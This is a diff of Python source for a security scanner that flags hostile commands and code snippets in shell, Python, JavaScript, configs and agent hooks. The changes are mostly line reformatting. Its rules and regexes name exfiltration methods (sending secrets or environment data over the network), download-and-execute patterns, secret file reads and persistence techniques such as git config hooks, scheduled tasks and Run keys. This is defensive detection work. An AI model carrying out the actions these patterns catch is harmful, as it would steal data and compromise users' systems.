-                  f"Sends the file {_clip(desc, 50)} to {_clip(dest or 'a remote host', 60)} ({name})")
+            j.add(
+                RULE_UPLOAD,
+                _sev(j.auto, False),
+                c.start,
+                c.end,
+                f"Sends the file {_clip(desc, 50)} to {_clip(dest or 'a remote host', 60)} ({name})",
+            )
     if stdin_sent or (name in SOCKETS and (name != "openssl" or "s_client" in texts)):
         c._stdin_sent = True  # type: ignore[attr-defined]  # judged with the pipeline in _pipes_send
         c._dest = dest  # type: ignore[attr-defined]
@@ -1057,18 +1458,30 @@ def _pipes_send(j: _Judge, s: Script) -> None:
             secrets, other = _sources_of(before)
             dest = getattr(st, "_dest", None)
             if secrets:
-                j.add(RULE_SEND_SECRET, Severity.WARNING if _is_local(dest) else Severity.ERROR, p.start, p.end,
-                      f"Sends {', '.join(dict.fromkeys(secrets))} to {_clip(dest or 'a remote host', 60)} "
-                      f"(piped into {st.effective()[0]})")
+                j.add(
+                    RULE_SEND_SECRET,
+                    Severity.WARNING if _is_local(dest) else Severity.ERROR,
+                    p.start,
+                    p.end,
+                    f"Sends {', '.join(dict.fromkeys(secrets))} to {_clip(dest or 'a remote host', 60)} "
+                    f"(piped into {st.effective()[0]})",
+                )
             elif not _is_local(dest) and st.effective()[0] in SOCKETS:
-                j.add(RULE_UPLOAD, _sev(j.auto, False), p.start, p.end,
-                      f"Pipes command output to {_clip(dest or 'a remote host', 60)} ({st.effective()[0]})")
+                j.add(
+                    RULE_UPLOAD,
+                    _sev(j.auto, False),
+                    p.start,
+                    p.end,
+                    f"Pipes command output to {_clip(dest or 'a remote host', 60)} ({st.effective()[0]})",
+                )
 
 
-_GIT_PERSIST_KEYS = re.compile(r"(?i)^(?:core\.(?:hookspath|sshcommand|fsmonitor|pager|editor|askpass)|"
-                               r"alias\..+|credential\..*helper|include\.path|includeif\..+|filter\..+\.(?:clean|smudge|process)|"
-                               r"diff\..+\.(?:textconv|command)|merge\..+\.driver|gpg\.program|sequence\.editor|"
-                               r"url\..+\.insteadof|http\.proxy|init\.templatedir)$")
+_GIT_PERSIST_KEYS = re.compile(
+    r"(?i)^(?:core\.(?:hookspath|sshcommand|fsmonitor|pager|editor|askpass)|"
+    r"alias\..+|credential\..*helper|include\.path|includeif\..+|filter\..+\.(?:clean|smudge|process)|"
+    r"diff\..+\.(?:textconv|command)|merge\..+\.driver|gpg\.program|sequence\.editor|"
+    r"url\..+\.insteadof|http\.proxy|init\.templatedir)$"
+)
 
 
 def _written_paths(c: Command) -> list[Word]:
@@ -1083,8 +1496,11 @@ def _written_paths(c: Command) -> list[Word]:
         out.extend(ops[1:] if name == "sed" else ops[1:])
     elif name == "dd":
         out.extend(a for a in args if a.text.startswith("of="))
-    elif name == "chmod" and any("x" in a.text for a in args if a.text.startswith("+") or a.text[:1].isdigit()
-                                 or a.text.startswith("u+") or a.text.startswith("a+")):
+    elif name == "chmod" and any(
+        "x" in a.text
+        for a in args
+        if a.text.startswith("+") or a.text[:1].isdigit() or a.text.startswith("u+") or a.text.startswith("a+")
+    ):
         out.extend(ops[1:])
     elif name in FETCHERS:
         out.extend(Word(f, f, c.start, c.end) for f in _downloaded_files(c) if f)
@@ -1109,7 +1525,11 @@ def _content_of(c: Command) -> str:
 def _dangerous_content(text: str) -> str | None:
     if not text.strip():
         return None
-    text = re.sub(r"(?m)^\s*(?:@\w+|(?:\S+\s+){5})(?=\S)", "", text) if re.match(r"^\s*(?:@\w+|[\d*/,-]+\s)", text) else text
+    text = (
+        re.sub(r"(?m)^\s*(?:@\w+|(?:\S+\s+){5})(?=\S)", "", text)
+        if re.match(r"^\s*(?:@\w+|[\d*/,-]+\s)", text)
+        else text
+    )
     sub = shell.parse(text, 0, depth=1)
     for h in judge_script(sub, "code"):
         if h.rule in (RULE_DOWNLOAD_EXEC, RULE_SEND_SECRET, RULE_SUB_NETWORK, RULE_REMOTE_PACKAGE):
@@ -1143,8 +1563,13 @@ def _persistence(j: _Judge, c: Command) -> None:
         hit = ("loads a launchd job", c.start, c.end)
     if hit is None and name == "schtasks" and any(t.lower() == "/create" for t in texts):
         hit = ("creates a scheduled task", c.start, c.end)
-    if hit is None and name == "reg" and texts[:1] and texts[0].lower() == "add" and any(
-            "\\run" in t.lower() for t in texts):
+    if (
+        hit is None
+        and name == "reg"
+        and texts[:1]
+        and texts[0].lower() == "add"
+        and any("\\run" in t.lower() for t in texts)
+    ):
         hit = ("adds a Windows Run key", c.start, c.end)
     if hit is None:
         return
@@ -1172,8 +1597,14 @@ def _secret_paths(j: _Judge, c: Command) -> None:
         if manage and not j.auto:
             continue
         sev = Severity.WARNING if manage else _sev(j.auto, False)
-        j.add(RULE_SECRET_PATH, sev, c.start, c.end,
-              f"{'Uses' if manage else 'Reads'} {loc.label}: {name} {_clip(w.text, 60)}", location=loc.id)
+        j.add(
+            RULE_SECRET_PATH,
+            sev,
+            c.start,
+            c.end,
+            f"{'Uses' if manage else 'Reads'} {loc.label}: {name} {_clip(w.text, 60)}",
+            location=loc.id,
+        )
         return
 
 
@@ -1181,16 +1612,35 @@ def _secret_paths(j: _Judge, c: Command) -> None:
 # Snippets (inline Python / Node)
 # --------------------------------------------------------------------------------------------
 
-_PY_SEND = {"post", "put", "patch", "request", "urlopen", "send", "sendall", "sendto", "sendmail", "upload_file",
-            "put_object", "connect_ex", "Request"}
+_PY_SEND = {
+    "post",
+    "put",
+    "patch",
+    "request",
+    "urlopen",
+    "send",
+    "sendall",
+    "sendto",
+    "sendmail",
+    "upload_file",
+    "put_object",
+    "connect_ex",
+    "Request",
+}
 _PY_FETCH = {"get", "urlopen", "urlretrieve", "read", "text", "content"}
 _JS_STR = re.compile(r"""(['"`])((?:\\.|(?!\1)[^\\\n]){0,2000})\1""")
-_JS_SEND = re.compile(r"\b(?:fetch|axios(?:\.(?:post|put|patch|request))?|https?\.request|request\.post|got\.post|"
-                      r"superagent\.post|\$\.post|navigator\.sendBeacon|net\.connect|socket\.write|WebSocket)\s*\(")
+_JS_SEND = re.compile(
+    r"\b(?:fetch|axios(?:\.(?:post|put|patch|request))?|https?\.request|request\.post|got\.post|"
+    r"superagent\.post|\$\.post|navigator\.sendBeacon|net\.connect|socket\.write|WebSocket)\s*\("
+)
 _JS_ENV = re.compile(r"\bprocess\.env\b(?!\s*\.\s*\w|\s*\[)")
 _JS_READ = re.compile(r"\b(?:readFileSync|readFile|createReadStream)\s*\(")
-_JS_EXEC = re.compile(r"\b(?:execSync|exec|spawnSync|spawn|execFileSync|execFile)\s*\(\s*(['\"`])((?:\\.|(?!\1)[^\\\n]){0,2000})\1")
-_JS_EVAL_FETCH = re.compile(r"\b(?:eval|Function|vm\.runIn\w+)\s*\([^)]{0,200}?\b(?:fetch|https?\.get|axios|got)\b", re.S)
+_JS_EXEC = re.compile(
+    r"\b(?:execSync|exec|spawnSync|spawn|execFileSync|execFile)\s*\(\s*(['\"`])((?:\\.|(?!\1)[^\\\n]){0,2000})\1"
+)
+_JS_EVAL_FETCH = re.compile(
+    r"\b(?:eval|Function|vm\.runIn\w+)\s*\([^)]{0,200}?\b(?:fetch|https?\.get|axios|got)\b", re.S
+)
 _JS_WRITE = re.compile(r"\b(?:writeFileSync|appendFileSync|writeFile|appendFile|createWriteStream)\s*\(")
 
 
@@ -1255,18 +1705,41 @@ def _judge_python(sn: Snippet, origin: str) -> list[Hit]:
                     if p is not None:
                         (writes if mode and any(m in mode for m in "wax") else reads).append(p)
                 if fn in ("read_text", "read_bytes") and isinstance(node.func, ast.Attribute):
-                    p = const_str(node.func.value.args[0]) if isinstance(node.func.value, ast.Call) and node.func.value.args else None
+                    p = (
+                        const_str(node.func.value.args[0])
+                        if isinstance(node.func.value, ast.Call) and node.func.value.args
+                        else None
+                    )
                     if p:
                         reads.append(p)
                 if fn in ("write_text", "write_bytes") and isinstance(node.func, ast.Attribute):
-                    p = const_str(node.func.value.args[0]) if isinstance(node.func.value, ast.Call) and node.func.value.args else None
+                    p = (
+                        const_str(node.func.value.args[0])
+                        if isinstance(node.func.value, ast.Call) and node.func.value.args
+                        else None
+                    )
                     if p:
                         writes.append(p)
-                if fn in ("exec", "eval", "compile") and any(_attr(getattr(x, "func", None)) in _PY_FETCH or
-                                                             _calls_fetch(x) for x in node.args):
+                if fn in ("exec", "eval", "compile") and any(
+                    _attr(getattr(x, "func", None)) in _PY_FETCH or _calls_fetch(x) for x in node.args
+                ):
                     fetch_exec = True
-                if fn in ("system", "popen", "run", "call", "check_call", "check_output", "Popen", "getoutput",
-                          "getstatusoutput", "spawn") and node.args:
+                if (
+                    fn
+                    in (
+                        "system",
+                        "popen",
+                        "run",
+                        "call",
+                        "check_call",
+                        "check_output",
+                        "Popen",
+                        "getoutput",
+                        "getstatusoutput",
+                        "spawn",
+                    )
+                    and node.args
+                ):
                     arg = node.args[0]
                     s = const_str(arg)
                     if s is not None:
@@ -1278,22 +1751,39 @@ def _judge_python(sn: Snippet, origin: str) -> list[Hit]:
     except RecursionError:
         pass
     if fetch_exec:
-        j.add(RULE_DOWNLOAD_EXEC, _sev(j.auto, False), a, b,
-              f"{_lang_label(sn)} code downloads code and runs it (exec/eval of a fetched response)", form="snippet")
+        j.add(
+            RULE_DOWNLOAD_EXEC,
+            _sev(j.auto, False),
+            a,
+            b,
+            f"{_lang_label(sn)} code downloads code and runs it (exec/eval of a fetched response)",
+            form="snippet",
+        )
     secret_hits = [loc.label for p in reads + strings if (loc := secret_in(p)) is not None]
     if sends and (secret_hits or env):
         what = ", ".join(dict.fromkeys(secret_hits + (["the environment"] if env and _env_wholesale(sn.text) else [])))
         if what:
             j.add(RULE_SEND_SECRET, Severity.ERROR, a, b, f"{_lang_label(sn)} code sends {what} over the network")
     elif sends and reads:
-        j.add(RULE_UPLOAD, _sev(j.auto, False), a, b,
-              f"{_lang_label(sn)} code reads {_clip(reads[0], 40)} and sends data over the network")
+        j.add(
+            RULE_UPLOAD,
+            _sev(j.auto, False),
+            a,
+            b,
+            f"{_lang_label(sn)} code reads {_clip(reads[0], 40)} and sends data over the network",
+        )
     elif secret_hits:
         j.add(RULE_SECRET_PATH, _sev(j.auto, False), a, b, f"{_lang_label(sn)} code reads {secret_hits[0]}")
     for p in writes:
         loc = match_location(p, "persistence_paths")
         if loc is not None:
-            j.add(RULE_PERSISTENCE, _sev(j.auto, False), a, b, f"Persistence: {_lang_label(sn)} code writes {loc.label} {p}")
+            j.add(
+                RULE_PERSISTENCE,
+                _sev(j.auto, False),
+                a,
+                b,
+                f"Persistence: {_lang_label(sn)} code writes {loc.label} {p}",
+            )
             break
     for s, node in shell_strings:
         off = _python_offset(sn, node)
@@ -1307,7 +1797,9 @@ def _q(s: str) -> str:
 
 
 def _env_wholesale(text: str) -> bool:
-    return bool(re.search(r"\bos\.environ\b(?!\s*(?:\[|\.get\b|\.setdefault\b|\.pop\b))", text)) or "process.env" in text
+    return (
+        bool(re.search(r"\bos\.environ\b(?!\s*(?:\[|\.get\b|\.setdefault\b|\.pop\b))", text)) or "process.env" in text
+    )
 
 
 def _python_offset(sn: Snippet, node) -> OffsetMap:
@@ -1315,7 +1807,8 @@ def _python_offset(sn: Snippet, node) -> OffsetMap:
     try:
         lines = sn.text.split("\n")
         idx = sum(len(x) + 1 for x in lines[: node.lineno - 1]) + len(
-            lines[node.lineno - 1].encode("utf-8")[: node.col_offset].decode("utf-8", "replace"))
+            lines[node.lineno - 1].encode("utf-8")[: node.col_offset].decode("utf-8", "replace")
+        )
         q = sn.text[idx : idx + 3]
         skip = 3 if q in ('"""', "'''") else (1 if q[:1] in "\"'" else 0)
         return sn.omap.shift(idx + skip)
@@ -1355,22 +1848,37 @@ def _judge_js(sn: Snippet, origin: str, python: bool = False) -> list[Hit]:
     secrets = [loc.label for s in strings if (loc := secret_in(s)) is not None]
     sends = bool(_JS_SEND.search(text)) or (python and bool(re.search(r"\b(?:requests|httpx|urllib)\b", text)))
     env = bool(_JS_ENV.search(text)) or (python and _env_wholesale(text))
-    if _JS_EVAL_FETCH.search(text) or (python and re.search(r"\bexec\s*\([^)]{0,200}\b(?:urlopen|requests\.get)", text)):
-        j.add(RULE_DOWNLOAD_EXEC, _sev(j.auto, False), a, b,
-              f"{_lang_label(sn)} code downloads code and runs it (eval of a fetched response)", form="snippet")
+    if _JS_EVAL_FETCH.search(text) or (
+        python and re.search(r"\bexec\s*\([^)]{0,200}\b(?:urlopen|requests\.get)", text)
+    ):
+        j.add(
+            RULE_DOWNLOAD_EXEC,
+            _sev(j.auto, False),
+            a,
+            b,
+            f"{_lang_label(sn)} code downloads code and runs it (eval of a fetched response)",
+            form="snippet",
+        )
     if sends and (secrets or env):
         what = ", ".join(dict.fromkeys(secrets + (["the environment"] if env else [])))
         j.add(RULE_SEND_SECRET, Severity.ERROR, a, b, f"{_lang_label(sn)} code sends {what} over the network")
     elif sends and _JS_READ.search(text):
-        j.add(RULE_UPLOAD, _sev(j.auto, False), a, b, f"{_lang_label(sn)} code reads a file and sends it over the network")
+        j.add(
+            RULE_UPLOAD, _sev(j.auto, False), a, b, f"{_lang_label(sn)} code reads a file and sends it over the network"
+        )
     elif secrets:
         j.add(RULE_SECRET_PATH, _sev(j.auto, False), a, b, f"{_lang_label(sn)} code reads {secrets[0]}")
     if _JS_WRITE.search(text):
         for s in strings:
             loc = match_location(s, "persistence_paths")
             if loc is not None:
-                j.add(RULE_PERSISTENCE, _sev(j.auto, False), a, b,
-                      f"Persistence: {_lang_label(sn)} code writes {loc.label} {_clip(s, 50)}")
+                j.add(
+                    RULE_PERSISTENCE,
+                    _sev(j.auto, False),
+                    a,
+                    b,
+                    f"Persistence: {_lang_label(sn)} code writes {loc.label} {_clip(s, 50)}",
+                )
                 break
     for m in _JS_EXEC.finditer(text):
         sub = shell.parse(m.group(2).replace("\\'", "'").replace('\\"', '"'), sn.omap.shift(m.start(2)), depth=1)
@@ -1401,9 +1909,15 @@ def _finalize(hits: list[Hit], origin: str, hidden: bool = False) -> list[Findin
             continue
         kept.append(h)
     out = []
-    label = {"hook": "hook command", "bang": "!-command (runs when invoked)", "config": "frontmatter command",
-             "permission": "allowed-tools pattern", "code": "", "decoded": "decoded payload",
-             "hidden": "hidden text"}.get(origin, origin)
+    label = {
+        "hook": "hook command",
+        "bang": "!-command (runs when invoked)",
+        "config": "frontmatter command",
+        "permission": "allowed-tools pattern",
+        "code": "",
+        "decoded": "decoded payload",
+        "hidden": "hidden text",
+    }.get(origin, origin)
     for h in kept:
         cat = CATEGORY[h.rule]
         msg = h.message + (f" [{label}]" if label else "")
@@ -1414,8 +1928,9 @@ def _finalize(hits: list[Hit], origin: str, hidden: bool = False) -> list[Findin
     return out
 
 
-def command_findings(text: str, base_offset: int | OffsetMap = 0, origin: str = "decoded",
-                     language: str = "shell") -> list[Finding]:
+def command_findings(
+    text: str, base_offset: int | OffsetMap = 0, origin: str = "decoded", language: str = "shell"
+) -> list[Finding]:
     """Parse ``text`` as shell (or, with ``language="python"``/``"javascript"``, as a snippet)
     and judge it. ``base_offset``: code-point offset of ``text`` in the document (or an
     :class:`~unveil.core.shell.OffsetMap` for text assembled from several places); ``origin``:
@@ -1491,7 +2006,7 @@ def _strip_prompts(text: str, console: bool) -> tuple[str, bool]:
     for ln in lines:
         m = _PROMPT.match(ln)
         if m and (m.group(0).rstrip().endswith(("$", "%", "❯", "›", ">")) or "$" in m.group(0)):
-            out.append(" " * m.end() + ln[m.end():])
+            out.append(" " * m.end() + ln[m.end() :])
             cont = ln.rstrip().endswith("\\")
         elif cont:
             out.append(ln)
@@ -1508,7 +2023,9 @@ BANG_KINDS = frozenset({"claude-skill", "claude-command", "claude-agent", "markd
 
 CONFIG_LANGS = frozenset({"json", "jsonc", "json5", "yaml", "yml", "toml"})
 _JSON_COMMAND = re.compile(r'"(?:command|cmd|script|run)"\s*:\s*"((?:\\.|[^"\\\n]){1,4000})"')
-_YAML_COMMAND = re.compile(r"(?m)^[ \t-]*(?:command|cmd|run)\s*[:=]\s*(?:(['\"])(.{1,4000}?)\1|([^'\"#\n][^\n]{0,4000}))[ \t]*$")
+_YAML_COMMAND = re.compile(
+    r"(?m)^[ \t-]*(?:command|cmd|run)\s*[:=]\s*(?:(['\"])(.{1,4000}?)\1|([^'\"#\n][^\n]{0,4000}))[ \t]*$"
+)
 
 
 _JSON_ESC = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f", "/": "/", "\\": "\\", '"': '"'}
@@ -1615,8 +2132,10 @@ def check(ctx) -> list[Finding]:
             out.extend(_config_commands(body_text, omap, origin))
             continue
         if lang in SHELL_LANGS or origin == "bang" or (lang in PLAIN_LANGS and looks_like_shell(body_text)):
-            stripped, _console = _strip_prompts(body_text, lang in ("console", "shell-session", "shellsession",
-                                                                     "terminal", "bash-session", "sh-session"))
+            stripped, _console = _strip_prompts(
+                body_text,
+                lang in ("console", "shell-session", "shellsession", "terminal", "bash-session", "sh-session"),
+            )
             out.extend(command_findings(stripped, omap, origin))
     # indented code blocks and inline code spans
     fence_starts = {a for a, _b in fence_spans}
@@ -1785,8 +2304,10 @@ def supersede(findings: list[Finding], rules) -> list[Finding]:
             cover[f.rule] = frozenset((r.raw.get("supersedes") or ()) if r is not None else ())
     if not cover:
         return findings
-    regex_hits = sorted((i for i, f in enumerate(findings) if f.data.get("parsed") is not True),
-                        key=lambda i: (findings[i].start, findings[i].end))
+    regex_hits = sorted(
+        (i for i, f in enumerate(findings) if f.data.get("parsed") is not True),
+        key=lambda i: (findings[i].start, findings[i].end),
+    )
     merged: dict[int, Finding] = {}
     drop: set[int] = set()
     for k, p in enumerate(findings):
@@ -1795,11 +2316,14 @@ def supersede(findings: list[Finding], rules) -> list[Finding]:
         for i in regex_hits:
             f = merged.get(i, findings[i])
             if f.rule in cover[p.rule] and f.start < max(p.end, p.start + 1) and p.start < max(f.end, f.start + 1):
-                info = list(f.data.get("parsed_facts", ())) + [{"rule": p.rule, "message": p.message,
-                                                                "severity": p.severity.label}]
-                merged[i] = f.with_(severity=min(f.severity, p.severity),
-                                    message=f"{f.message} (parsed as {p.rule}: {p.message})",
-                                    data={**f.data, "parsed_facts": info})
+                info = list(f.data.get("parsed_facts", ())) + [
+                    {"rule": p.rule, "message": p.message, "severity": p.severity.label}
+                ]
+                merged[i] = f.with_(
+                    severity=min(f.severity, p.severity),
+                    message=f"{f.message} (parsed as {p.rule}: {p.message})",
+                    data={**f.data, "parsed_facts": info},
+                )
                 drop.add(k)
                 break
     return [merged.get(i, f) for i, f in enumerate(findings) if i not in drop]
